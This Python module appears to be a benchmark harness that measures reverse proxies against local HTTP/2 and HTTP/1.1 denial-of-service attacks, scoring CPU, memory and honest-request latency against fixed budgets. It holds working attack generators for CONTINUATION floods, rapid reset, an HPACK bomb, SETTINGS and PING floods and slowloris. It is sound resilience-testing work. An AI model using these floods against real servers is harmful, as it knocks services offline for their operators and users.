"""The attack budgets: 20,000 hostile frames on one connection may cost 10 MiB and 0.5 s of CPU, and an honest request
beside them is answered within 300 ms. Every proxy gets the same octets, from a fresh start with its own limits."""

import dataclasses
import json
import select
import socket
import ssl
import subprocess
import sys
import time

import load
import report
from load import PREFACE, frame, h2_head
from proxies import (HERE, LOAD_CORE, TITLES, BenchError, Proxy, client_context, on_core, spent_ns,
                     stop_process)

FRAMES = 20_000
BUDGET = {"cpu_s": 0.5, "memory_mib": 10, "honest_ms": 300}
PATIENCE_S = 5.0         # a flood that is not taken within this time is over: the proxy has stopped reading
SMALL = load.FIELDS[3:5]  # user-agent and accept: a small, ordinary head

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


@dataclasses.dataclass(frozen=True)
class Attack:
    id: str
    title: str
    frames: object               # () -> iterator of octets; each item counts as `each` frames
    each: int = 1
    settings: bytes = b""        # of the connection's first SETTINGS
    reads: bool = True           # False: leaves the answers in the socket, so that they pile up in the proxy
    h1: bool = False             # HTTP/1.1: the octets are sent as they are


def streams(count):
    return range(1, 2 * count, 2)


def continuation(payload):
    def frames():
        yield frame(HEADERS, END_STREAM, 1, h2_head(fields=SMALL))
        for _ in range(FRAMES):
            yield frame(CONTINUATION, 0, 1, payload)
    return frames


def pairs(second, flags=END_STREAM | END_HEADERS):
    """A request and at once the frame that ends it."""
    def frames():
        head = h2_head(fields=SMALL)
        for stream in streams(FRAMES // 2):
            yield frame(HEADERS, flags, stream, head) + second(stream)
    return frames


def repeated(octets, first=b""):
    def frames():
        if first:
            yield first
        for _ in range(FRAMES):
            yield octets
    return frames


def requests(block):
    def frames():
        for stream in streams(FRAMES):
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
    return frames


def hpack_bomb():
    """One entry of 4,000 octets in the dynamic table, then 12,000 one-octet references to it in every request."""
    insert = b"\x40" + load.hpack_string("x") + load.hpack_string("a" * 4000)
    for number, stream in enumerate(streams(FRAMES)):
        block = h2_head(fields=SMALL) + (insert if number == 0 else b"") + b"\xbe" * 12_000
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


POST = frame(HEADERS, END_HEADERS, 1, h2_head("POST", "/upload", SMALL))
FLOODS = (
    Attack("continuation", "CONTINUATION flood, 1 KiB each", continuation(load.hpack((("x-filler", "a" * 1000),)))),
    Attack("continuation-empty", "CONTINUATION flood, empty", continuation(b"")),
    Attack("rapid-reset", "rapid reset (request + RST_STREAM)",
           pairs(lambda stream: frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))), 2),
    Attack("provoked-reset", "server-provoked resets (request + WINDOW_UPDATE 0)",
           pairs(lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))), 2),
    Attack("provoked-reset-data", "server-provoked resets (request + DATA after its end)",
           pairs(lambda stream: frame(DATA, 0, stream, b"x")), 2),
    Attack("settings", "SETTINGS flood, answers not read", repeated(frame(SETTINGS, 0, 0, b"\x00\x03\x00\x00\x00\x64")),
           reads=False),
    Attack("ping", "PING flood, answers not read", repeated(frame(PING, 0, 0, b"12345678")), reads=False),
    Attack("empty-data", "empty DATA frames", repeated(frame(DATA, 0, 1), POST)),
    Attack("priority", "PRIORITY flood", repeated(frame(PRIORITY, 0, 1, (0).to_bytes(4, "big") + b"\x10"))),
    Attack("window-update", "WINDOW_UPDATE flood", repeated(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))),
    Attack("hpack-bomb", "HPACK bomb, 48 MB decoded a request", hpack_bomb),
    Attack("many-fields", "3,000 header fields a request",
           requests(h2_head(fields=SMALL) + load.hpack((("a", "b"),)) * 3000)),
    Attack("zero-window", "1 MiB requested 20,000 times with a window of 0", requests(h2_head(path="/1m", fields=SMALL)),
           settings=b"\x00\x04\x00\x00\x00\x00"),
    Attack("h1-fields", "HTTP/1.1 head of 20,000 fields",
           repeated(b"X-Filler: aaaaaaaaaaaaaaaa\r\n", b"GET / HTTP/1.1\r\nHost: localhost\r\n"), h1=True),
)


class Flood:
    """One TLS connection with HTTP/2 that sends as fast as the proxy takes it."""

    def __init__(self, port, attack):
        self.attack, self.sent, self.answer = attack, 0, b""
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.stream = client_context("http/1.1" if attack.h1 else "h2").wrap_socket(raw, server_hostname="localhost")
        self.stream.setblocking(False)
        self.ended = ""

    def run(self):
        if not self.attack.h1:
            self._send(PREFACE + frame(SETTINGS, 0, 0, self.attack.settings))
        deadline = time.monotonic() + PATIENCE_S
        batch, size = [], 0
        for octets in self.attack.frames():
            batch.append(octets)
            size += len(octets)
            if size >= 16_000:
                if not self._send(b"".join(batch), deadline):
                    break
                self.sent += len(batch) * self.attack.each
                batch, size = [], 0
        if not self.ended and batch and self._send(b"".join(batch), deadline):
            self.sent += len(batch) * self.attack.each
        # Give the proxy time to act on what is in flight; it may only now close.
        until = time.monotonic() + 0.5
        while not self.ended and time.monotonic() < until:
            self._read()
            time.sleep(0.01)
        self.stream.close()

    def _send(self, octets, deadline=None):
        view = memoryview(octets)
        deadline = deadline or time.monotonic() + 10
        while view:
            if self.attack.reads:
                self._read()
            if self.ended:
                return False
            try:
                view = view[self.stream.send(view):]
                continue
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                pass
            except OSError as error:
                self.ended = f"closed ({type(error).__name__})"
                self._read()
                return False
            left = deadline - time.monotonic()
            if left <= 0:
                self.ended = "the proxy stopped reading"
                return False
            reading = [self.stream] if self.attack.reads else []
            select.select(reading, [self.stream], [], min(left, 0.25))
        return True

    def _read(self):
        try:
            while True:
                part = self.stream.recv(65536)
                if not part:
                    self.ended = self.ended or "closed"
                    return
                if len(self.answer) < 1 << 20:
                    self.answer += part
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError as error:
            self.ended = self.ended or f"closed ({type(error).__name__})"

    def verdict(self):
        """How the proxy ended it: its GOAWAY's error code when there is one."""
        if self.attack.h1:
            return self.answer[9:12].decode(errors="replace") or self.ended or "kept"
        at, data = 0, self.answer
        while len(data) - at >= 9:
            length = int.from_bytes(data[at:at + 3], "big")
            if data[at + 3] == 7 and len(data) - at >= 17:
                return f"GOAWAY {int.from_bytes(data[at + 13:at + 17], 'big')}"
            at += 9 + length
        return self.ended or "kept"


class Honest:
    def __init__(self, port):
        self.process = subprocess.Popen([sys.executable, str(HERE / "honest.py"), str(port)], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True, preexec_fn=on_core(LOAD_CORE))
        if self.process.stdout.readline().strip() != "ready":
            raise BenchError("the honest client did not start")

    def finish(self):
        self.process.stdin.close()
        self.process.stdin = None
        line = self.process.stdout.readline()
        self.process.wait(20)
        return json.loads(line)

    def stop(self):
        stop_process(self.process)


def settle(proxy):
    """Waits until the proxy has stopped working (at most 5 s)."""
    last, quiet = proxy.cpu_ns(), 0
    deadline = time.monotonic() + 5
    while quiet < 3 and time.monotonic() < deadline:
        time.sleep(0.1)
        now = proxy.cpu_ns()
        quiet = quiet + 1 if spent_ns(last, now) < 3_000_000 else 0
        last = now


def reset_peak(proxy):
    for pid in proxy.pids():
        try:
            with open(f"/proc/{pid}/clear_refs", "w", encoding="ascii") as file:
                file.write("5")
        except OSError:
            continue


def hostile_requests(env):
    stats = env.origin.stats()
    return stats["requests"] - stats["honest_requests"]


def beside_honest(name, env, attack):
    """Runs attack(proxy) -> facts with an honest client beside it; returns what both cost and saw.

    The honest client's own connections (one every 50 ms) are part of the CPU time: about 10 ms a second."""
    proxy = Proxy(name, env, purpose="attacks")
    honest = None
    try:
        load.h2load(env, f"https://localhost:{proxy.https}/", 2000, 16, 8)
        settle(proxy)
        honest = Honest(proxy.https)
        reset_peak(proxy)
        rss, cpu, reached = proxy.peak_kib(), proxy.cpu_ns(), hostile_requests(env)
        pids = proxy.pids()
        facts = attack(proxy)
        time.sleep(0.3)
        seen = honest.finish()
        settle(proxy)
        facts.update(cpu_s=spent_ns(cpu, proxy.cpu_ns()) / 1e9, memory_mib=max(0, proxy.peak_kib() - rss) / 1024,
                     honest_ms=seen["slowest_ms"] if seen["answered"] else None, honest_answered=seen["answered"],
                     honest_failed=seen["failed"], honest_why=seen["why"], survived=proxy.alive() and (name != "nginx" or proxy.pids() == pids),
                     reached_app=hostile_requests(env) - reached)
        return facts
    finally:
        if honest:
            honest.stop()
        proxy.stop()


def flood(attack):
    def run_one(proxy):
        connection = Flood(proxy.https, attack)
        connection.run()
        return {"frames_taken": connection.sent, "end": connection.verdict()}
    return run_one


def slowloris(count):
    """Heads that never end: one more octet on each connection twice a second."""
    def run_one(proxy):
        connections = []
        try:
            for _ in range(count):
                raw = socket.create_connection(("127.0.0.1", proxy.https), timeout=10)
                stream = client_context().wrap_socket(raw, server_hostname="localhost")
                stream.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
                connections.append(stream)
            for _ in range(6):
                time.sleep(0.5)
                for stream in connections:
                    try:
                        stream.sendall(b"a")
                    except OSError:
                        continue
        finally:
            for stream in connections:
                stream.close()
        return {"connections": len(connections)}
    return run_one


def idle(env, count):
    def run_one(proxy):
        request = env.directory / "request-h1"
        request.write_bytes(load.h1_request())
        held = load.Held(env, "idle", port=proxy.https, request=request, count=count)
        try:
            time.sleep(3)
            alive = held.finish().get("alive", 0)
        finally:
            held.stop()
        return {"connections": held.first.get("ready", 0), "alive": alive}
    return run_one


def within(outcome, only_honest=False):
    honest = outcome["honest_failed"] == 0 and outcome["honest_ms"] is not None and outcome["survived"]
    if only_honest:
        return honest and outcome.get("alive", outcome["connections"]) >= outcome["connections"] > 0
    return (honest and outcome["honest_ms"] <= BUDGET["honest_ms"] and outcome["cpu_s"] <= BUDGET["cpu_s"]
            and outcome["memory_mib"] <= BUDGET["memory_mib"])


def typical(name, env, attack, runs):
    """Of several runs the one whose slowest honest answer is the median: a busy machine delays now and then."""
    outcomes = [beside_honest(name, env, attack) for _ in range(runs)]
    outcomes.sort(key=lambda outcome: (outcome["honest_failed"], outcome["honest_ms"] or float("inf")))
    return outcomes[len(outcomes) // 2]


def run(env, names, only=(), runs=1):
    """Every attack on every proxy; prints a line each. within_budget: Lintel's verdict over all of them."""
    table = [(attack.id, attack.title, flood(attack), False) for attack in FLOODS]
    table.append(("slowloris", "1,000 connections with heads that never end", slowloris(1000), True))
    table.append(("idle", "10,000 idle HTTPS connections", idle(env, 10_000), True))
    result = {"budget": BUDGET, "frames": FRAMES, "names": names, "attacks": [], "within_budget": True}
    for ident, title, attack, only_honest in table:
        if only and ident not in only:
            continue
        outcomes = {}
        for name in names:
            report.progress(f"{ident}: {TITLES[name]}")
            try:
                outcomes[name] = typical(name, env, attack, 1 if only_honest else runs)
            except (BenchError, OSError, ValueError) as error:
                report.progress("")
                print(f"bench: {ident}: {TITLES[name]}: {error}", file=sys.stderr)
                if name == "lintel":
                    result["within_budget"] = False
                continue
            outcomes[name]["within"] = within(outcomes[name], only_honest)
            if name == "lintel" and not outcomes[name]["within"]:
                result["within_budget"] = False
        report.progress("")
        result["attacks"].append({"id": ident, "title": title, "outcomes": outcomes})
        report.print_attack(title, outcomes)
    return result
